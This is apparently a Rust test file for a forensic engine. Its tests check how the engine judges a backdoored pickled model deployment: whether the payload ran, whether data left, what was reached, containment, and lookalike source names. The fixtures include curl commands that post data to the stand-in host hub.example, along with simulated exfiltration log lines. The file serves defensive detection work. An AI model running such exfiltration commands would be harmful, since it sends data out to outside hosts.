//! What conclusions rest on: judgements, the chain, deployments side by side, loads, and what is affected.

use super::{MODELS, TRAFFIC, TWINS, case};
use wb_core::{Attribute, Case, Confidence, DeploymentRow, Judgement, ReachKind, Stage, Status};

fn judged<'a>(case: &'a Case, rule: &str) -> Option<&'a Judgement> {
    case.reasoning.judgements.iter().find(|judgement| judgement.rule == rule)
}

fn stage(case: &Case, stage: Stage) -> Status {
    let step = case.reasoning.chain.iter().find(|step| step.stage == stage);
    step.expect("every stage is told").status
}

const LOADED: &str = "2026-03-05 10:00:10 INFO Loaded model rank.pkl\n";

#[test]
fn every_judgement_has_its_grounds_and_what_would_change_it() {
    let case = case(MODELS, &[("server.log", LOADED), ("net.log", TRAFFIC)]);
    assert!(case.reasoning.judgements.len() > 3);
    let explained = wb_engine::judgement_rules();
    for judgement in &case.reasoning.judgements {
        assert!(explained.iter().any(|rule| rule.name == judgement.rule), "{judgement:?}");
        assert!(!judgement.would_change.is_empty(), "{judgement:?}");
        let shown = judgement.status == Status::Missing || !judgement.grounds.is_empty();
        assert!(shown, "{judgement:?}");
    }
    let ran = judged(&case, "payload-ran").expect("a judgement on it");
    assert_eq!((ran.status, ran.confidence), (Status::Inferred, Confidence::High));
    assert_eq!(stage(&case, Stage::Execution), Status::Inferred);
    assert_eq!(stage(&case, Stage::Source), Status::Missing);
    assert_eq!(case.reasoning.chain.len(), Stage::ALL.len());
}

#[test]
fn what_is_innocent_has_no_chain_and_nothing_affected() {
    let case = case(TWINS, &[("server.log", LOADED), ("net.log", TRAFFIC)]);
    assert_eq!(case.reasoning.chain, []);
    assert_eq!(case.reasoning.reach, []);
    let rules: Vec<&str> = case.reasoning.judgements.iter().map(|it| it.rule).collect();
    assert_eq!(rules, ["nothing-malicious"]);
}

#[test]
fn a_process_of_the_payload_is_surer_than_its_traffic_and_a_load_alone_less() {
    let of = |logs: &[(&str, &str)]| {
        let case = case(MODELS, logs);
        let ran = judged(&case, "payload-ran").expect("a judgement on it");
        (ran.status, ran.confidence, stage(&case, Stage::Execution))
    };
    let process = "{\"time\": \"2026-03-05T10:00:29Z\", \"event\": \"exec\", \"process\": \"sh\", \
                   \"command_line\": \"sh -c 'curl -d x https://hub.example/b'\"}\n";
    assert_eq!(
        of(&[("server.log", LOADED), ("exec.jsonl", process)]),
        (Status::Observed, Confidence::High, Status::Observed)
    );
    assert_eq!(of(&[("server.log", LOADED)]).1, Confidence::Medium);
    let nothing = "2026-03-05 10:00:00 INFO disk check passed\n";
    assert_eq!(of(&[("server.log", nothing)]), (Status::Missing, Confidence::Low, Status::Missing));
}

#[test]
fn data_left_only_where_bytes_went_out_that_nothing_stopped() {
    let told = |traffic: &str| {
        let case = case(MODELS, &[("server.log", LOADED), ("net.log", traffic)]);
        let left = judged(&case, "data-left").expect("a judgement on it");
        (left.status, left.confidence, stage(&case, Stage::Exfiltration))
    };
    let line = |verdict: &str, bytes: &str| {
        format!(
            "2026-03-05T10:00:30Z {verdict} TCP 10.0.0.5:4000 -> 203.0.113.9:443 host=hub.example{bytes}\n"
        )
    };
    assert_eq!(
        told(&line("ALLOW", " bytes_out=512")),
        (Status::Observed, Confidence::High, Status::Observed)
    );
    assert_eq!(told(&line("ALLOW", "")), (Status::Inferred, Confidence::Medium, Status::Missing));
    assert_eq!(
        told(&line("DENY", " bytes_out=512")),
        (Status::Inferred, Confidence::Medium, Status::Missing)
    );
}

fn lacks(case: &Case) -> Vec<(bool, Vec<Attribute>)> {
    let row = |row: &DeploymentRow| (row.introduced, row.lacks.clone());
    case.reasoning.deployments.iter().map(row).collect()
}

#[test]
fn a_deployment_is_held_to_how_earlier_ones_of_its_model_were_logged() {
    let log = "2026-03-01 09:00:00 INFO Model update requested by mlops, ticket CHG-7\n\
               2026-03-01 09:00:01 INFO Source: registry.example/team/rank@4f1c9d2e7a\n\
               2026-03-01 09:00:02 INFO rank.pkl digest=sha256:@sha256(golden/rank.pkl)@\n\
               2026-03-01 09:00:10 INFO Model rank.pkl deployed to production\n\
               2026-03-05 09:58:00 INFO Model update requested by mlops\n\
               2026-03-05 09:58:01 INFO Source: registry.example/team/rank\n\
               2026-03-05 09:58:10 INFO Model rank.pkl deployed to production\n";
    let told = case(MODELS, &[("deploy.log", log), ("net.log", TRAFFIC)]);
    assert_eq!(
        lacks(&told),
        [(false, vec![]), (true, vec![Attribute::Approval, Attribute::Revision, Attribute::Hash]),]
    );
    // Nobody misses a pin that no deployment ever had, and a load by itself orders nothing.
    let log = log.replace("@4f1c9d2e7a", "") + "2026-03-05 11:58:00 INFO Loaded model rank.pkl\n";
    let told = case(MODELS, &[("deploy.log", &log), ("net.log", TRAFFIC)]);
    let expected =
        [(false, vec![]), (true, vec![Attribute::Approval, Attribute::Hash]), (false, vec![])];
    assert_eq!(lacks(&told), expected);
}

#[test]
fn contacts_are_compared_with_loads() {
    let server: String = (0..4)
        .map(|day| format!("2026-03-0{} 10:00:10 INFO Loaded model rank.pkl\n", 2 + day))
        .collect();
    let network = |time: &str| -> String {
        let quiet = "2026-03-02T00:00:00Z ALLOW TCP 10.0.0.5:4000 -> 10.0.0.9:5432\n\
                     2026-03-06T00:00:00Z ALLOW TCP 10.0.0.5:4000 -> 10.0.0.9:5432\n";
        let contact = |day| {
            format!(
                "2026-03-0{day}T{time}Z ALLOW TCP 10.0.0.5:4000 -> 203.0.113.9:443 host=hub.example\n"
            )
        };
        quiet.to_owned() + &(2..6).map(contact).collect::<String>()
    };
    let told = |time: &str| case(MODELS, &[("server.log", &server), ("net.log", &network(time))]);
    let after = told("10:00:30");
    assert_eq!(after.reasoning.loads.contacts, (4, 4));
    assert_eq!(after.reasoning.loads.rows[0].contact_after, Some(20));
    let judgement = judged(&after, "contacts-follow-loads").expect("they do");
    assert!(judgement.statement.starts_with("connections follow loads: 4 of 4"));
    let apart = told("17:00:30");
    assert_eq!(apart.reasoning.loads.contacts, (4, 0));
    let judgement = judged(&apart, "contacts-follow-loads").expect("it runs at load");
    assert!(judgement.statement.starts_with("connections do not follow loads: 0 of 4"));
}

#[test]
fn what_is_affected_is_named_with_how_sure_it_is() {
    let log = "2026-03-05 09:58:00 INFO Model update requested by j.doe\n\
               2026-03-05 09:58:10 INFO Model rank.pkl deployed to production\n";
    let copies = "@sha256(live/rank.pkl)@  mirror/ranker-v2.pkl\n";
    let other =
        "2026-03-05T11:10:30Z ALLOW TCP 10.0.0.77:4000 -> 203.0.113.9:443 host=hub.example\n";
    let traffic = format!("{TRAFFIC}{other}");
    let case = case(MODELS, &[("deploy.log", log), ("net.log", &traffic), ("SHA256SUMS", copies)]);
    let names = |kind: ReachKind| -> Vec<(&str, Confidence)> {
        let reached = case.reasoning.reach.iter().filter(|reached| reached.kind == kind);
        reached.map(|reached| (reached.name.as_str(), reached.confidence)).collect()
    };
    let high = Confidence::High;
    assert_eq!(names(ReachKind::Host), [("10.0.0.5", high), ("10.0.0.77", high)]);
    assert_eq!(names(ReachKind::Account), [("j.doe", Confidence::Medium)]);
    assert!(names(ReachKind::File).contains(&("mirror/ranker-v2.pkl", high)));
    assert!(!names(ReachKind::File).iter().any(|(name, _)| name.contains("golden")));
}

#[test]
fn who_stops_the_traffic_is_no_process_of_the_payload() {
    let ran = |line: &str| {
        let case = case(MODELS, &[("server.log", LOADED), ("host.log", line)]);
        judged(&case, "payload-ran").expect("a judgement on it").status
    };
    let sudo = |terminal: &str, command: &str| {
        format!(
            "2026-03-05T10:20:00Z infer-1 sudo: kim : TTY={terminal} ; PWD=/home/kim ; USER=root ; \
             COMMAND={command}\n"
        )
    };
    let block = "/usr/sbin/nft add rule inet fw out ip daddr hub.example drop";
    assert_ne!(ran(&sudo("pts/0", block)), Status::Observed);
    assert_ne!(ran(&sudo("unknown", block)), Status::Observed);
    let payload = "/usr/bin/curl -d x https://hub.example/b";
    assert_ne!(ran(&sudo("pts/0", payload)), Status::Observed);
    assert_eq!(ran(&sudo("unknown", payload)), Status::Observed);
}

#[test]
fn another_way_out_is_open_only_when_something_went_through_it_after_the_block() {
    let told = |then: &str| {
        let traffic = format!(
            "2026-03-05T10:00:30Z ALLOW TCP 10.0.0.5:4000 -> 203.0.113.9:443 host=hub.example bytes_out=90\n\
             2026-03-05T10:20:30Z DENY TCP 10.0.0.5:4002 -> 203.0.113.9:443 host=hub.example\n{then}"
        );
        let case = case(MODELS, &[("server.log", LOADED), ("net.log", &traffic)]);
        judged(&case, "contained").expect("a judgement on it").statement.clone()
    };
    let other = |time: &str, verdict: &str, bytes: &str| {
        format!(
            "2026-03-05T{time}Z {verdict} TCP 10.0.0.6:4000 -> 203.0.113.9:443 host=hub.example{bytes}\n"
        )
    };
    let open = told(&other("10:40:00", "ALLOW", " bytes_out=90"));
    assert!(open.starts_with("it is not contained: attempts were stopped from"), "{open}");
    for (time, verdict, bytes) in [
        ("10:40:00", "DENY", " bytes_out=90"),
        ("10:40:00", "ALLOW", ""),
        ("10:10:00", "ALLOW", " bytes_out=90"),
    ] {
        let closed = told(&other(time, verdict, bytes));
        assert!(!closed.starts_with("it is not contained"), "{closed}");
    }
}

#[test]
fn an_organisation_that_is_spelled_almost_alike_is_named_and_another_is_not() {
    let told = |after: &str| {
        let log = format!(
            "2026-03-01 09:00:01 INFO Source: hub.example/harbour-labs/rank@4f1c9d2e7a\n\
             2026-03-01 09:00:10 INFO Model rank.pkl deployed to production\n\
             2026-03-05 09:58:01 INFO Source: hub.example/{after}/rank@5e0c91d4a7\n\
             2026-03-05 09:58:10 INFO Model rank.pkl deployed to production\n"
        );
        let case = case(MODELS, &[("deploy.log", &log), ("net.log", TRAFFIC)]);
        judged(&case, "source-changed").map(|it| it.statement.clone()).unwrap_or_default()
    };
    assert!(told("harbor-labs").ends_with("`harbor-labs` is spelled almost like `harbour-labs`"));
    assert!(told("quayside").starts_with("its source changed from"));
    assert!(!told("quayside").contains("spelled"));
    assert!(!told("harbour-labs").contains("spelled"));
}
